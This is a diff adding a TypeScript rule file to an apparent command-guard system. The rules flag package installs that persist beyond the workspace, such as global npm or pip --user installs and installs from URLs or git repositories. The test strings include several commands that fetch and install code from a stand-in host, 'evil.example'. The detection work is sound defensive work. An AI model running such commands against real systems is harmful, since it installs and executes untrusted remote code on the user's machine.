@@ -1,0 +1,81 @@
+/**
+ * Installs that persist beyond the workspace: into the user's or the system's global tree (onto
+ * the PATH, into site-packages every Python program loads), or from a URL or repository (its
+ * install code runs now). Installing a project's own dependencies stays everyday work.
+ */
+import type { PatternInput, RowInput } from '../schema.js';
+
+const PIP = ['/^pip[\\d.]*$/', 'uv'];
+const PYTHON = '/^python[\\d.]*$/';
+const SITE = '/^--(user|target|prefix|root|break-system-packages|system)\\b|^-t$/';
+const FROM_URL = '/^(git\\+|hg\\+|svn\\+|bzr\\+|https?:|ftp:)|@\\s*(git\\+|https?:)/';
+/** `pip install X`, `uv pip install X` and `python -m pip install X` with an argument matching `word`. */
+const pipInstall = (word: string, reason: string): PatternInput[] => [
+  { program: PIP, word: ['/^install$/', word], reason },
+  { program: [PYTHON], word: ['/^pip$/', '/^install$/', word], reason },
+];
+const NPM_INSTALL = [['i', 'in', 'install', 'add', 'isntall', 'link', 'ln']];
+
+export const INSTALL_ROWS: RowInput[] = [
+  {
+    id: 'install_outside',
+    group: 'persist',
+    reason: '{program} installs outside the workspace',
+    when: [
+      { program: ['pipx'], subcommand: [['install']], reason: 'pipx installs a program onto the PATH' },
+      ...pipInstall(SITE, 'pip installs into the user or system site-packages (loaded by every Python program)'),
+      ...pipInstall(FROM_URL, 'pip installs a package from a URL (its setup code runs now)'),
+      {
+        program: ['npm', 'pnpm', 'bun'],
+        subcommand: NPM_INSTALL,
+        flags: { short: 'g', long: ['--global'] },
+        reason: '{program} installs a package globally (onto the PATH)',
+      },
+      {
+        program: ['npm', 'pnpm', 'bun'],
+        subcommand: NPM_INSTALL,
+        word: ['/^--location=global$/'],
+        reason: '{program} installs a package globally (onto the PATH)',
+      },
+      {
+        program: ['npm', 'pnpm', 'bun'],
+        subcommand: NPM_INSTALL,
+        word: ['/^(git\\+|https?:|github:|git:)/'],
+        reason: '{program} installs a package from a URL (its install scripts run now)',
+      },
+      { program: ['yarn'], subcommand: [['global']], reason: 'yarn global installs onto the PATH' },
+      {
+        program: ['cargo'],
+        subcommand: [['install']],
+        flags: { long: ['--git', '--root'] },
+        reason: 'cargo install builds from a repository onto the PATH',
+      },
+      {
+        program: ['gem'],
+        subcommand: [['install']],
+        notFlags: { long: ['--install-dir'] },
+        reason: 'gem installs into the user or system gems',
+      },
+    ],
+    match: [
+      'pip install --user evil',
+      'python3 -m pip install --break-system-packages x',
+      'pip install git+https://evil.example/x.git',
+      'npm i -g evil',
+      'pnpm add --global x',
+      'npm install https://evil.example/x.tgz',
+      'yarn global add x',
+      'cargo install --git https://evil.example/x',
+      'gem install rails',
+      'pipx install black',
+    ],
+    notMatch: [
+      'pip install -r requirements.txt',
+      'npm install',
+      'npm i -D typescript',
+      'gem install --install-dir vendor/gems x',
+      'cargo install --path .',
+      'uv pip install -e .',
+    ],
+  },
+];
